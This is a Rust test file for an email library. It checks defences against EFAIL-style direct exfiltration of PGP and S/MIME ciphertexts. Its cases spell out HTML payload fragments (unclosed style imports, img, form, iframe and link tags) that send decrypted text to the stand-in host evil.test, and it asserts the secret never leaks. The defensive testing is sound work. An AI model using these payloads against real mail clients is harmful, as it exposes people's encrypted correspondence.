//! EFAIL's direct exfiltration: a ciphertext between pieces of a page.

use super::world::{ALICE, MALLORY, SECRET, WORLD, html, mail, multipart, quoted, shown, text};
use kakitome::flow::Lock;

/// Mallory opens, in a part of hers, everything in HTML that swallows what follows: the next part
/// is alice's ciphertext.
#[test]
fn nothing_that_is_left_open_in_html_swallows_the_next_part() {
    for cipher in [
        WORLD.pgp_encrypted(&html(SECRET), None),
        WORLD.smime_encrypted(&html(SECRET), false),
        WORLD.smime_encrypted(&text(SECRET), true),
    ] {
        for (before, after) in [
            ("<style>@import url(http://evil.test/?", ");</style>"),
            ("<style>*{background:url('http://evil.test/?", "')}</style>"),
            ("<form action=\"http://evil.test/\"><textarea name=x>", "</textarea><input type=submit></form>"),
            ("<a href='http://evil.test/?", "'>click</a>"),
            ("<base href=\"http://evil.test/\"><img src=\"", "\">"),
            ("<!-- ", " --><p>lunch?</p>"),
            ("<plaintext>http://evil.test/", ""),
            ("<iframe srcdoc=\"<img src='http://evil.test/?", "'>\"></iframe>"),
            ("<link rel=stylesheet href=\"http://evil.test/?", "\">"),
        ] {
            let parts = [html(before), cipher.clone(), html(after)];
            let parts: Vec<&[u8]> = parts.iter().map(Vec::as_slice).collect();
            for entity in [
                multipart("mixed", &parts),
                multipart("related", &parts),
                multipart("mixed", &[parts[0], &multipart("mixed", &parts[1..])]),
            ] {
                let found = WORLD.assess(mail(MALLORY, &entity));
                assert_eq!(found.headline.lock, Lock::NotEncrypted);
                for block in &found.blocks {
                    let drawn = block.html.as_deref().map(kakitome::message::sanitize_html).unwrap_or_default();
                    let both = |text: &str| text.contains(SECRET) && text.contains("evil.test");
                    assert!(
                        !both(&drawn) && !both(&block.text) && !both(block.html.as_deref().unwrap_or_default()),
                        "{before}"
                    );
                }
                assert!(!quoted(&found).contains(SECRET), "{before}");
            }
        }
    }
}

/// Mallory's page names the decrypted part by its Content-ID, as a picture, a frame or an object.
#[test]
fn a_page_outside_can_not_name_what_was_decrypted() {
    let secret = |kind: &str| format!("Content-Type: {kind}\r\nContent-ID: <secret>\r\n\r\n{SECRET}\r\n").into_bytes();
    for cipher in [
        WORLD.pgp_encrypted(&secret("image/png"), None),
        WORLD.smime_encrypted(&secret("text/html"), true),
        WORLD.smime_encrypted(&secret("image/svg+xml"), false),
    ] {
        let cipher = [b"Content-ID: <secret>\r\n".as_slice(), &cipher].concat();
        for markup in [
            "<img src=\"cid:secret\">",
            "<iframe src=\"cid:secret\"></iframe>",
            "<object data=\"cid:secret\"></object>",
            "<div style=\"background:url(cid:secret)\">x</div>",
        ] {
            let page = html(&format!("page {markup}"));
            for entity in [
                multipart("related", &[&page, &cipher]),
                WORLD.pgp_signed(MALLORY, &multipart("mixed", &[&cipher, &page])),
                WORLD.smime_encrypted(&multipart("related", &[&page, &cipher]), true),
            ] {
                let found = WORLD.assess(mail(MALLORY, &entity));
                let page = found
                    .blocks
                    .iter()
                    .find(|block| block.html.as_deref().is_some_and(|html| html.contains("page")))
                    .expect("the page");
                assert!(
                    found.pictures(page).all(|(_, content)| !String::from_utf8_lossy(content).contains(SECRET)),
                    "{markup}"
                );
            }
        }
    }
}

/// Mallory writes alice's ciphertext, as text, into the attribute of her page.
#[test]
fn a_ciphertext_within_html_stays_closed() {
    let object = String::from_utf8(WORLD.pgp_object(SECRET.as_bytes(), None, &[ALICE])).expect("armor");
    for markup in [
        format!("<img src=\"http://evil.test/?\r\n{object}\r\n\">"),
        format!("<pre>\r\n{object}\r\n</pre>"),
        format!("<a href=\"http://evil.test/\">{object}</a>"),
        format!("<textarea>{object}</textarea>"),
    ] {
        for entity in [
            html(&markup),
            multipart("alternative", &[&text(&object), &html(&markup)]),
            multipart("alternative", &[&text("x"), &html(&markup)]),
        ] {
            let found = WORLD.assess(mail(MALLORY, &entity));
            assert_eq!(found.headline.lock, Lock::NotEncrypted);
            assert!(!shown(&found).contains(SECRET) && !quoted(&found).contains(SECRET));
        }
    }
}

/// Mallory's text looks like a page to a program that joins an inline ciphertext with what is
/// around it.
#[test]
fn markup_around_an_inline_ciphertext_is_only_text() {
    let object = String::from_utf8(WORLD.pgp_object(SECRET.as_bytes(), None, &[ALICE])).expect("armor");
    let found = WORLD.assess(mail(MALLORY, &text(&format!("<img src=\"http://evil.test/?\r\n{object}\r\n\">"))));
    assert_eq!(found.headline.lock, Lock::NotEncrypted);
    assert!(found.blocks.iter().all(|block| block.html.is_none()));
    assert!(found.blocks.iter().all(|block| !(block.text.contains(SECRET) && block.text.contains("evil.test"))));
    assert!(!quoted(&found).contains(SECRET));
}

#[test]
fn a_ciphertext_between_pieces_of_html_is_never_joined_with_them() {
    for cipher in [
        WORLD.pgp_encrypted(&text(SECRET), None),
        WORLD.smime_encrypted(&text(SECRET), false),
        WORLD.smime_encrypted(&html(SECRET), true),
    ] {
        for kind in ["mixed", "related", "alternative", "x-unknown"] {
            let before = html("<img src=\"http://evil.test/?");
            let found = WORLD.assess(mail(MALLORY, &multipart(kind, &[&before, &cipher, &html("\">")])));
            assert_eq!(found.headline.lock, Lock::NotEncrypted, "{kind}");
            for block in &found.blocks {
                let html = block.html.as_deref().unwrap_or_default();
                assert!(!(html.contains("evil.test") && html.contains(SECRET)), "{kind}: {block:?}");
                assert!(block.decrypted || !block.text.contains(SECRET));
            }
            assert!(!quoted(&found).contains(SECRET), "{kind}: {}", quoted(&found));
            assert!(!found.text.contains(SECRET));
        }
    }
}
